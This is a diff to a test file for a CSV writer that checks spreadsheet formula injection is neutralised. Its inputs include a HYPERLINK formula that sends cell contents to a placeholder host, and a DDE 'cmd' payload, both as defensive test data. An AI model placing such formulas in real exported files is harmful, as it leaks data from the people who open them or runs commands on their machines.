@@ -47,6 +47,15 @@ describe('writeCsv', () => {
     ])
   })
 
+  it('quotes fields with the separators other locales use, so no later part becomes a cell', async () => {
+    const text = await csvOf([line('Smith;=HYPERLINK("https://x.invalid/?"&A1)'), line('a\t@b')])
+
+    expect(text.split('\r\n').slice(1, 3)).toEqual([
+      '"Smith;=HYPERLINK(""https://x.invalid/?""&A1)",,',
+      '"a\t@b",,',
+    ])
+  })
+
   it('keeps unicode, right-to-left marks and emoji byte for byte', async () => {
     const names = ['محمد', '\u202Eevil\u202C', 'Override\u200E', '👩🏽‍💻', 'Ñúñez', '王']
 
@@ -70,7 +79,7 @@ describe('writeCsv', () => {
       "'+cmd|' /C calc'!A0,,",
       "'-2+3,,",
       "'@SUM(1+1),,",
-      "'\t=1+1,,",
+      '"\'\t=1+1",,',
     ])
     expect(text).toContain('"\'\r=2+2",,')
   })
